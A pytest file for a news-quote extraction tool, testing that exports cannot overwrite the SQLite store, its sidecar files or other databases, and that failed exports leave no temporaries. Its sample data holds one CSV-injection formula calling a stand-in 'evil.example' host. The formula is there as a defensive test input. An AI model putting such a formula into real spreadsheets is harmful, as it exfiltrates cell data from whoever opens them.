"""Hostile and broken input, and nothing lost (issue #16): exports that cannot destroy the store,
inputs that are always stored or listed, dates and encodings read as they come, CSV cells that a
spreadsheet cannot run, and a server that checks what it is asked."""

from __future__ import annotations

import hashlib
import importlib
import json
import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from onrecord.cli import main
from onrecord.query.export import ExportTargetError, check_output, export
from onrecord.store import StoredInput, open_store

TEXTS = [
    '"We will not give up," Vladimir Putin, the Russian prime minister, said on Friday.',
    '"=HYPERLINK(""http://evil.example/?x=""&A1)" is not a formula," Ana Lopez said on Monday.',
]


@pytest.fixture(scope="module")
def runner() -> CliRunner:
    return CliRunner(mix_stderr=False)


@pytest.fixture
def db(analyzer, tmp_path) -> Path:
    """A small store of its own for each test: some tests try to destroy it."""
    path = tmp_path / "news.db"
    items = [
        StoredInput(analyzer.analyze(text, source=f"a{i}.txt", published="2020-01-02"), text)
        for i, text in enumerate(TEXTS)
    ]
    with open_store(path) as store:
        store.write_batch(items, [])
    return path


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _quote_count(path: Path) -> int:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return conn.execute("SELECT count(*) FROM quotes").fetchone()[0]
    finally:
        conn.close()


# -- defect 1: an export never overwrites the store --------------------------------------------------------
def _export(runner, db, output, *extra):
    return runner.invoke(main, ["export", "--db", str(db), "--what", "quotes", "-o", str(output), *extra])


def test_export_refuses_to_write_over_the_store_by_any_path(runner, db, tmp_path, monkeypatch):
    before, quotes = _digest(db), _quote_count(db)
    (tmp_path / "link.db").symlink_to(db)
    os.link(db, tmp_path / "hard.db")
    monkeypatch.chdir(tmp_path)
    for output in (db, "news.db", "./sub/../news.db", tmp_path / "link.db", tmp_path / "hard.db"):
        if output == "./sub/../news.db":
            (tmp_path / "sub").mkdir(exist_ok=True)
        for extra in ((), ("--force",)):
            result = _export(runner, db, output, *extra)
            assert result.exit_code == 1, (output, result.output)
            assert "refusing to write the export" in result.stderr and "Traceback" not in result.output
            assert db.stat().st_size > 0 and _digest(db) == before, output
    assert _quote_count(db) == quotes


@pytest.mark.parametrize("suffix", ["-wal", "-shm", "-journal"])
def test_export_refuses_the_stores_sidecar_files(runner, db, suffix):
    sidecar = Path(str(db) + suffix)
    result = _export(runner, db, sidecar, "--force")
    assert result.exit_code == 1 and "refusing to write the export" in result.stderr
    assert not sidecar.exists() or not sidecar.read_bytes().startswith(b'{"')  # SQLite's, not ours
    assert _quote_count(db) > 0


def test_export_refuses_any_sqlite_file_even_with_force(runner, db, tmp_path):
    other = tmp_path / "other.sqlite"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    before = _digest(other)
    result = _export(runner, db, other, "--force")
    assert result.exit_code == 1 and "is a SQLite database" in result.stderr
    assert _digest(other) == before
    # and the -wal name beside another database, although that file does not exist yet
    result = _export(runner, db, tmp_path / "other.sqlite-wal")
    assert result.exit_code == 1 and "wal file of the SQLite database" in result.stderr
    assert not (tmp_path / "other.sqlite-wal").exists()


def test_export_replaces_an_existing_file_only_with_force(runner, db, tmp_path):
    out = tmp_path / "quotes.jsonl"
    out.write_text("keep me\n", encoding="utf-8")
    result = _export(runner, db, out)
    assert result.exit_code == 1 and "already exists; pass --force" in result.stderr
    assert out.read_text(encoding="utf-8") == "keep me\n"
    result = _export(runner, db, out, "--force")
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == _quote_count(db)
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_export_dash_is_standard_output(runner, db, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = _export(runner, db, "-")
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(rows) == _quote_count(db) and "to standard output" in result.stderr
    assert not (tmp_path / "-").exists()


def test_a_failed_export_leaves_the_old_file_and_no_temporary(db, tmp_path, monkeypatch):
    export_module = importlib.import_module("onrecord.query.export")  # the package's `export` is a function
    out = tmp_path / "quotes.csv"
    out.write_text("old,export\n", encoding="utf-8")

    def broken_rows(*args, **kwargs):
        yield {"id": "q1"}
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_module, "iter_rows", broken_rows)
    with open_store(db, readonly=True) as store, pytest.raises(OSError, match="No space"):
        export(store, "quotes", "csv", out, force=True)
    assert out.read_text(encoding="utf-8") == "old,export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_check_output_from_python_guards_the_store_too(db, tmp_path):
    with pytest.raises(ExportTargetError, match="the store being exported"):
        check_output(db, store_path=db, force=True)
    with open_store(db, readonly=True) as store, pytest.raises(ExportTargetError):
        export(store, "quotes", "jsonl", db, force=True)
    assert _quote_count(db) > 0
